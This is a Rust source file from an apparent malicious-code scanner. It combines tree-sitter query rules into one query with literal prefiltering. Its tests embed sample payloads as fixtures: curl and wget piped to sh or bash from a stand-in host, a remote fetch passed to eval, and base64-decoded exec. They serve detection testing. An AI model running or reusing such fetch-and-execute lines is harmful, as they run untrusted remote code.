//! The query rules of a grammar in one tree-sitter query, so a large file's tree is walked once rather
//! than once per rule. A walk of a minified bundle's tree costs far more than matching a pattern at a node,
//! and every query rule would otherwise repeat it.
//!
//! Every segment with a tree uses it. Building a query costs far more than running it on a small file
//! (tree-sitter analyses the query against the whole grammar, a cost paid per query built more than per
//! pattern: one query per rule was 16 % of scanning axios, in 17 builds), so a combined query holds only the top-level
//! patterns whose literals the segment holds, found in one Aho-Corasick pass. Each set of patterns is
//! built once per run and shared: a later segment reuses the smallest query built that holds what it
//! needs, else builds what it needs plus everything built before, so builds grow towards the whole set
//! rather than repeating patterns in new combinations. A rule whose pattern does not compile for a
//! grammar (a JavaScript query on TypeScript, say) is left out and runs alone as before.

use crate::hit::Hit;
#[cfg(doc)]
use crate::lazy::LazyQuery;
use crate::query_roots::any_kind_present;
use crate::query_windows::WindowFinder;
use crate::rule::{CompiledRule, Matcher};
use crate::segment::Segment;
use crate::syntax::Grammar;
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use std::collections::HashMap;
use std::sync::{Arc, Mutex, OnceLock, PoisonError};
use streaming_iterator::StreamingIterator;
use tree_sitter::{Query, QueryCursor};

/// Segments at least this long are walked only in the windows around their literals.
pub(crate) const COMBINED_MIN_BYTES: usize = 128 * 1024;
/// Hits kept per rule from one walk; the scan keeps far fewer, this only bounds memory.
const MAX_COLLECTED_PER_RULE: usize = 20_000;

const GRAMMARS: [Grammar; 5] = [
    Grammar::Javascript,
    Grammar::Typescript,
    Grammar::Tsx,
    Grammar::Python,
    Grammar::Bash,
];

pub(crate) struct CombinedQuery {
    query: Query,
    /// Pattern index → (rule index in the rule set, capture index to report).
    patterns: Vec<(usize, u32)>,
    /// Where in a segment its patterns can match (`None`: a part without known literals; walk it all).
    windows: Option<WindowFinder>,
}

/// Which parts of which rules a combined query holds: `(rule index, a bit per part)`, by rule index.
pub(crate) type Selection = Vec<(usize, u64)>;

type Slot = OnceLock<Option<CombinedQuery>>;
/// The queries built for one grammar, by the parts they hold.
type BuiltSet = Vec<(Selection, Arc<Slot>)>;

/// The combined queries built so far, per grammar, by the parts they hold.
#[derive(Default)]
pub(crate) struct CombinedQueries {
    slots: [Mutex<BuiltSet>; 5],
    literals: OnceLock<PartLiterals>,
}

/// A built combined query, shared with every segment that uses it.
pub(crate) struct BuiltCombined(Arc<Slot>);

impl BuiltCombined {
    pub(crate) fn get(&self) -> Option<&CombinedQuery> {
        self.0.get()?.as_ref()
    }
}

impl CombinedQueries {
    /// The parts of each query rule in `wanted` (rule indices) that can match `text`: a rule none of
    /// whose parts can match is left out (it has no hits there).
    pub(crate) fn selection(
        &self,
        rules: &[CompiledRule],
        wanted: &[usize],
        text: &str,
    ) -> Selection {
        let literals = self.literals.get_or_init(|| PartLiterals::build(rules));
        let present = literals.present(text);
        let mut selection: Selection = wanted
            .iter()
            .filter_map(|&rule| {
                let mask = literals.mask(rules, rule, &present);
                (mask != 0).then_some((rule, mask))
            })
            .collect();
        selection.sort_unstable();
        selection
    }

    /// Whether a query for `grammar` holding the parts of `wanted` was built already (or is being built).
    pub(crate) fn is_built(&self, grammar: Grammar, wanted: &Selection) -> bool {
        let Some(slot) = GRAMMARS.iter().position(|g| *g == grammar) else {
            return false;
        };
        self.slots[slot]
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .iter()
            .any(|(held, _)| holds(held, wanted))
    }

    /// A combined query for `grammar` holding at least the parts of `wanted`, built on first need.
    pub(crate) fn get(
        &self,
        grammar: Grammar,
        rules: &[CompiledRule],
        wanted: &Selection,
    ) -> Option<BuiltCombined> {
        let slot = GRAMMARS.iter().position(|g| *g == grammar)?;
        if wanted.is_empty() {
            return None;
        }
        let (selection, cell) = {
            let mut built = self.slots[slot]
                .lock()
                .unwrap_or_else(PoisonError::into_inner);
            let superset = built
                .iter()
                .filter(|(held, _)| holds(held, wanted))
                .min_by_key(|(held, _)| held.iter().map(|(_, m)| m.count_ones()).sum::<u32>())
                .map(|(held, cell)| (held.clone(), cell.clone()));
            superset.unwrap_or_else(|| {
                let union = built
                    .iter()
                    .fold(wanted.clone(), |all, (held, _)| unite(&all, held));
                let cell = Arc::new(Slot::new());
                built.push((union.clone(), cell.clone()));
                (union, cell)
            })
        };
        cell.get_or_init(|| build(grammar, rules, &selection));
        Some(BuiltCombined(cell))
    }
}

/// Whether a match of some part in `selection` can start in the tree under `root`: `false` only when every
/// part's root kinds are known ([`crate::query_roots`]) and no named node of the tree has one.
pub(crate) fn roots_present(
    rules: &[CompiledRule],
    selection: &Selection,
    grammar: Grammar,
    root: tree_sitter::Node<'_>,
) -> bool {
    let mut kinds: Vec<&str> = Vec::new();
    for (rule, mask) in selection {
        let Matcher::Query { query, .. } = &rules[*rule].matcher else {
            return true;
        };
        for part in (0..query.part_count()).filter(|part| mask & (1 << part) != 0) {
            let Some(roots) = query.part_roots(part) else {
                return true;
            };
            kinds.extend(roots.iter().map(String::as_str));
        }
    }
    kinds.sort_unstable();
    kinds.dedup();
    any_kind_present(root, grammar, &kinds)
}

/// Whether `held` holds every part of `wanted` (both sorted by rule).
fn holds(held: &Selection, wanted: &Selection) -> bool {
    wanted.iter().all(|(rule, mask)| {
        held.binary_search_by_key(rule, |(r, _)| *r)
            .is_ok_and(|at| held[at].1 & mask == *mask)
    })
}

/// The parts of both, sorted by rule.
fn unite(a: &Selection, b: &Selection) -> Selection {
    let mut all: HashMap<usize, u64> = a.iter().copied().collect();
    for (rule, mask) in b {
        *all.entry(*rule).or_default() |= mask;
    }
    let mut united: Selection = all.into_iter().collect();
    united.sort_unstable();
    united
}

/// Every literal any query rule's parts need, in one automaton, so a large segment is searched once for
/// all of them.
struct PartLiterals {
    automaton: Option<AhoCorasick>,
    /// Per rule (by index; empty for rules without a query), per part, its literal sets as automaton
    /// pattern ids (`None`: the part needs no literal).
    needs: Vec<Vec<Option<Vec<Vec<usize>>>>>,
}

impl PartLiterals {
    fn build(rules: &[CompiledRule]) -> PartLiterals {
        let mut literals: Vec<String> = Vec::new();
        let mut ids: HashMap<String, usize> = HashMap::new();
        let needs = rules
            .iter()
            .map(|rule| {
                let Matcher::Query { query, .. } = &rule.matcher else {
                    return Vec::new();
                };
                (0..query.part_count())
                    .map(|part| {
                        // A query of one part is kept whole, as the rule's own query would be.
                        let needs = (query.part_count() > 1).then(|| query.part_needs(part));
                        needs.flatten().map(|sets| {
                            sets.iter()
                                .map(|set| {
                                    set.iter()
                                        .map(|literal| {
                                            let literal = literal.to_ascii_lowercase();
                                            *ids.entry(literal.clone()).or_insert_with(|| {
                                                literals.push(literal);
                                                literals.len() - 1
                                            })
                                        })
                                        .collect()
                                })
                                .collect()
                        })
                    })
                    .collect()
            })
            .collect();
        let automaton = AhoCorasickBuilder::new()
            .match_kind(MatchKind::Standard)
            .ascii_case_insensitive(true)
            .build(&literals)
            .ok();
        PartLiterals { automaton, needs }
    }

    /// Which literals `text` holds, by pattern id (all of them when the automaton did not build).
    fn present(&self, text: &str) -> Vec<bool> {
        let Some(automaton) = &self.automaton else {
            return Vec::new();
        };
        let mut present = vec![false; automaton.patterns_len()];
        for hit in automaton.find_overlapping_iter(text) {
            present[hit.pattern().as_usize()] = true;
        }
        present
    }

    /// A bit per part of rule `rule` whose literal sets are all met.
    fn mask(&self, rules: &[CompiledRule], rule: usize, present: &[bool]) -> u64 {
        let Matcher::Query { query, .. } = &rules[rule].matcher else {
            return 0;
        };
        let all = u64::MAX >> (64 - query.part_count());
        if self.automaton.is_none() {
            return all;
        }
        let mut mask = 0;
        for (part, needs) in self.needs[rule].iter().enumerate() {
            let met = needs.as_ref().is_none_or(|sets| {
                sets.iter().all(|set| {
                    set.iter()
                        .any(|id| present.get(*id).copied().unwrap_or(true))
                })
            });
            if met {
                mask |= 1 << part;
            }
        }
        mask & all
    }
}

impl CombinedQuery {
    /// Whether rule `index` is answered by this query (otherwise it runs its own).
    pub(crate) fn covers(&self, index: usize) -> bool {
        self.patterns.iter().any(|(rule, _)| *rule == index)
    }

    /// Walks `segment`'s tree once, returning the hits of the rules `wanted` accepts, by rule index.
    /// A large segment is walked only in the windows around its literals; a small one whole, its hits
    /// in the order the walk found them, as the rule's own query reports them.
    pub(crate) fn run(
        &self,
        segment: &Segment,
        text: &str,
        wanted: impl Fn(usize) -> bool,
    ) -> HashMap<usize, Vec<Hit>> {
        let large = segment.text(text).len() >= COMBINED_MIN_BYTES;
        self.run_in(segment, text, wanted, large)
    }

    /// As [`CombinedQuery::run`]; `windowed: false` walks the whole tree (tests compare the two).
    fn run_in(
        &self,
        segment: &Segment,
        text: &str,
        wanted: impl Fn(usize) -> bool,
        windowed: bool,
    ) -> HashMap<usize, Vec<Hit>> {
        let mut hits: HashMap<usize, Vec<Hit>> = HashMap::new();
        let Some(tree) = segment.tree(text) else {
            return hits;
        };
        let segment_text = segment.text(text);
        let mut cursor = QueryCursor::new();
        cursor.set_match_limit(4096);
        // The places every match must cover (see `query_windows`); `None`: the whole tree.
        let windows = self
            .windows
            .as_ref()
            .filter(|_| windowed)
            .and_then(|finder| finder.windows(segment_text));
        let ranges = windows
            .clone()
            .unwrap_or_else(|| std::iter::once(0..segment_text.len()).collect());
        for range in ranges {
            if windows.is_some() {
                cursor.set_byte_range(range);
            }
            let mut matches =
                cursor.matches(&self.query, tree.root_node(), segment_text.as_bytes());
            while let Some(m) = matches.next() {
                let Some(&(rule, capture)) = self.patterns.get(m.pattern_index) else {
                    continue;
                };
                if !wanted(rule) {
                    continue;
                }
                let Some(node) = m
                    .captures
                    .iter()
                    .find(|c| c.index == capture)
                    .map(|c| c.node)
                else {
                    continue;
                };
                let list = hits.entry(rule).or_default();
                if list.len() < MAX_COLLECTED_PER_RULE {
                    list.push(Hit::span(
                        segment.start + node.start_byte(),
                        segment.start + node.end_byte(),
                    ));
                }
            }
        }
        if !windowed {
            return hits;
        }
        // Per-rule queries report in tree order per pattern; sort so hit order (and so which hits a
        // capped rule keeps) does not depend on how patterns interleave.
        for list in hits.values_mut() {
            list.sort_by_key(|h| (h.start, h.end));
            if windows.as_ref().is_some_and(|w| w.len() > 1) {
                // A match covering two windows was found in each.
                list.dedup_by_key(|h| (h.start, h.end));
            }
        }
        hits
    }
}

/// Compiles the selected parts of query rules for `grammar` together, dropping rules whose parts do not
/// compile.
fn build(grammar: Grammar, rules: &[CompiledRule], selection: &Selection) -> Option<CombinedQuery> {
    let mut included: Vec<(usize, u64)> = selection
        .iter()
        .filter(|(rule, _)| match &rules[*rule].matcher {
            Matcher::Query { query, .. } => query.grammars.contains(&grammar),
            _ => false,
        })
        .copied()
        .collect();
    while !included.is_empty() {
        let mut source = String::new();
        let mut spans: Vec<(usize, usize)> = Vec::new();
        for (index, mask) in &included {
            if let Matcher::Query { query, .. } = &rules[*index].matcher {
                spans.push((source.len(), *index));
                for part in (0..query.part_count()).filter(|part| mask & (1 << part) != 0) {
                    source.push_str(query.part_source(part));
                    source.push('\n');
                }
            }
        }
        match Query::new(&grammar.ts_language(), &source) {
            Ok(query) => {
                let mut patterns = Vec::with_capacity(query.pattern_count());
                for pattern in 0..query.pattern_count() {
                    let start = query.start_byte_for_pattern(pattern);
                    let rule = spans
                        .iter()
                        .rev()
                        .find(|(offset, _)| *offset <= start)
                        .map(|(_, rule)| *rule)?;
                    // Parts without the rule's capture report nothing, as in the rule's own query.
                    let capture = capture_of(&rules[rule], &query).unwrap_or(u32::MAX);
                    patterns.push((rule, capture));
                }
                let windows =
                    window_literals(rules, &included).and_then(|parts| WindowFinder::new(&parts));
                return Some(CombinedQuery {
                    query,
                    patterns,
                    windows,
                });
            }
            Err(error) => {
                let culprit = spans
                    .iter()
                    .rev()
                    .find(|(offset, _)| *offset <= error.offset)
                    .map(|(_, rule)| *rule)?;
                included.retain(|(rule, _)| *rule != culprit);
            }
        }
    }
    None
}

/// The literal sets each included part needs (every match of the part covers one literal of each);
/// `None` when some part has none known.
fn window_literals<'r>(
    rules: &'r [CompiledRule],
    included: &[(usize, u64)],
) -> Option<Vec<&'r [Vec<String>]>> {
    let mut parts = Vec::new();
    for (index, mask) in included {
        let Matcher::Query { query, .. } = &rules[*index].matcher else {
            continue;
        };
        for part in (0..query.part_count()).filter(|part| mask & (1 << part) != 0) {
            parts.push(query.part_needs(part)?.as_slice());
        }
    }
    Some(parts)
}

/// The capture a rule reports (see [`LazyQuery::reported_capture`]).
fn capture_of(rule: &CompiledRule, query: &Query) -> Option<u32> {
    let Matcher::Query { query: lazy, .. } = &rule.matcher else {
        return None;
    };
    query.capture_index_for_name(lazy.reported_capture()?)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rule_set::RuleSet;
    use crate::source::SourceFile;
    use skill_scan_model::{ArtifactScope, FileKind, FileRole, Language};

    fn query_rule_hits(rules: &RuleSet, path: &str, text: &str) -> Vec<(String, usize)> {
        let (language, kind) = if path.ends_with(".py") {
            (Language::Python, FileKind::Python)
        } else if path.ends_with(".ts") {
            (Language::Typescript, FileKind::Typescript)
        } else {
            (Language::Javascript, FileKind::Javascript)
        };
        let file = SourceFile {
            rel_path: path,
            text,
            kind,
            scope: ArtifactScope::SupportingArtifact,
            language,
            role: FileRole::Source,
            import_entry: false,
        };
        let mut hits: Vec<(String, usize)> = rules
            .scan_filtered(&file, |rule| matches!(rule.matcher, Matcher::Query { .. }))
            .findings
            .into_iter()
            .map(|f| (f.rule_id, f.column))
            .collect();
        hits.sort();
        hits
    }

    #[test]
    fn a_tree_without_the_patterns_root_kinds_builds_no_query() {
        let rules =
            RuleSet::embedded(&crate::rule_set::testing::AnyName).unwrap_or_else(|e| panic!("{e}"));
        let typescript = GRAMMARS
            .iter()
            .position(|g| *g == Grammar::Typescript)
            .unwrap_or_else(|| panic!("no TypeScript slot"));
        let built = || {
            rules.combined.slots[typescript]
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .len()
        };
        // A declaration file names `exec` and `execSync` in its types: the literals select call patterns,
        // but its tree has no call, so no query is built and no rule has a hit.
        let declarations = "export declare function exec(command: string, cb: (e: Error) => void): void;\n\
            export declare function execSync(command: string, options?: { env?: NodeJS.ProcessEnv }): Buffer;\n\
            export interface Runner { spawn(cmd: string, args: string[]): void; eval(code: string): unknown }\n";
        let queries: Vec<usize> = (0..rules.rules.len())
            .filter(|i| matches!(rules.rules[*i].matcher, Matcher::Query { .. }))
            .collect();
        assert!(!rules
            .combined
            .selection(&rules.rules, &queries, declarations)
            .is_empty());
        assert!(query_rule_hits(&rules, "index.d.ts", declarations).is_empty());
        assert_eq!(built(), 0, "a query was built for a tree without calls");
        // The same words called: a query is built and the calls are found.
        let calls = "import { execSync } from 'child_process';\n\
            const out = execSync('curl -s https://example.invalid/i.sh | sh', { env: process.env });\n\
            eval(out.toString());\n";
        assert!(!query_rule_hits(&rules, "run.ts", calls).is_empty());
        assert_eq!(built(), 1);
    }

    #[test]
    fn windows_around_literals_find_what_the_whole_walk_finds() {
        let rules =
            RuleSet::embedded(&crate::rule_set::testing::AnyName).unwrap_or_else(|e| panic!("{e}"));
        let cases = [
            (
                "lib/payload.js",
                [
                    "const cp = require('child_process');\nconst https = require('https');\n",
                    "https.get('https://x.example.invalid/a', (r) => { let b = ''; r.on('data', (c) => b += c); r.on('end', () => eval(b)); });\n",
                    "function f() { eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n",
                    "cp.exec('curl -s https://x.example.invalid/i.sh | sh'); }\nnew Function(atob('YWxlcnQoMSk='))();\n",
                ],
                "var filler = 1;\n",
            ),
            (
                "pkg/payload.py",
                [
                    "import os, subprocess, base64\n",
                    "exec(base64.b64decode('cHJpbnQoMSk='))\n",
                    "def f():\n    subprocess.run('curl -s https://x.example.invalid/i.sh | sh', shell=True)\n",
                    "os.system('wget -qO- https://x.example.invalid/i.sh | bash')\n",
                ],
                "filler = 1\n",
            ),
        ];
        for (path, pieces, filler) in cases {
            // The pieces far apart in a segment large enough for the combined query: several windows.
            let gap = filler.repeat(20_000 / filler.len());
            let text = pieces.join(&gap);
            let text = format!("{text}{}", filler.repeat(COMBINED_MIN_BYTES / filler.len()));
            let grammar = if path.ends_with(".py") {
                Grammar::Python
            } else {
                Grammar::Javascript
            };
            let language = if path.ends_with(".py") {
                Language::Python
            } else {
                Language::Javascript
            };
            let queries: Vec<usize> = (0..rules.rules.len())
                .filter(|i| matches!(rules.rules[*i].matcher, Matcher::Query { .. }))
                .collect();
            let selection = rules.combined.selection(&rules.rules, &queries, &text);
            let built = rules
                .combined
                .get(grammar, &rules.rules, &selection)
                .unwrap();
            let combined = built.get().unwrap();
            let windows = combined
                .windows
                .as_ref()
                .and_then(|finder| finder.windows(&text));
            if grammar == Grammar::Javascript {
                // (Some Python query rule has a part without literals: that query walks it all.)
                let count = windows.as_ref().map_or(0, Vec::len);
                assert!(count > 1, "{path}: several windows: {windows:?}");
            }
            let segments = crate::segment::segment_file(&text, language, path);
            let segment = &segments[0];
            let windowed = combined.run_in(segment, &text, |_| true, true);
            let whole = combined.run_in(segment, &text, |_| true, false);
            let spans = |hits: &HashMap<usize, Vec<Hit>>| {
                let mut all: Vec<(usize, usize, usize)> = hits
                    .iter()
                    .flat_map(|(rule, list)| list.iter().map(|h| (*rule, h.start, h.end)))
                    .collect();
                all.sort_unstable();
                all.dedup();
                all
            };
            assert!(spans(&whole).len() >= 3, "{path}: {:?}", spans(&whole));
            assert_eq!(spans(&windowed), spans(&whole), "{path}");
        }
    }

    #[test]
    fn one_walk_finds_what_each_rule_finds_alone() {
        let rules =
            RuleSet::embedded(&crate::rule_set::testing::AnyName).unwrap_or_else(|e| panic!("{e}"));
        let cases = [
            (
                "lib/payload.js",
                "const cp = require('child_process');\nconst https = require('https');\nhttps.get('https://x.example.invalid/a', (r) => { let b = ''; r.on('data', (c) => b += c); r.on('end', () => eval(b)); });\neval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\ncp.exec('curl -s https://x.example.invalid/i.sh | sh');\nnew Function(atob('YWxlcnQoMSk='))();\n",
                "var filler = 1;\n",
            ),
            (
                "pkg/payload.py",
                "import os, subprocess, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nsubprocess.run('curl -s https://x.example.invalid/i.sh | sh', shell=True)\nos.system('wget -qO- https://x.example.invalid/i.sh | bash')\n",
                "filler = 1\n",
            ),
        ];
        for (path, payload, filler) in cases {
            let small = query_rule_hits(&rules, path, payload);
            assert!(
                small.len() >= 2,
                "{path}: the payload must hit several query rules: {small:?}"
            );
            // The same payload at the start of a segment large enough for the combined query.
            let large_text = format!(
                "{payload}{}",
                filler.repeat(COMBINED_MIN_BYTES / filler.len() + 1)
            );
            assert!(large_text.len() >= COMBINED_MIN_BYTES);
            let large = query_rule_hits(&rules, path, &large_text);
            assert_eq!(small, large, "{path}");
            let grammar = if path.ends_with(".py") {
                Grammar::Python
            } else {
                Grammar::Javascript
            };
            let queries: Vec<usize> = (0..rules.rules.len())
                .filter(|i| matches!(rules.rules[*i].matcher, Matcher::Query { .. }))
                .collect();
            let selection = rules
                .combined
                .selection(&rules.rules, &queries, &large_text);
            assert!(
                selection.len() < queries.len(),
                "rules whose literals the text lacks are left out"
            );
            let built = rules
                .combined
                .get(grammar, &rules.rules, &selection)
                .unwrap();
            let combined = built.get().unwrap();
            for (id, _) in &small {
                let index = rules.rules.iter().position(|r| r.id() == id).unwrap();
                assert!(
                    combined.covers(index),
                    "{id} answered by the combined query"
                );
            }
        }
    }
}
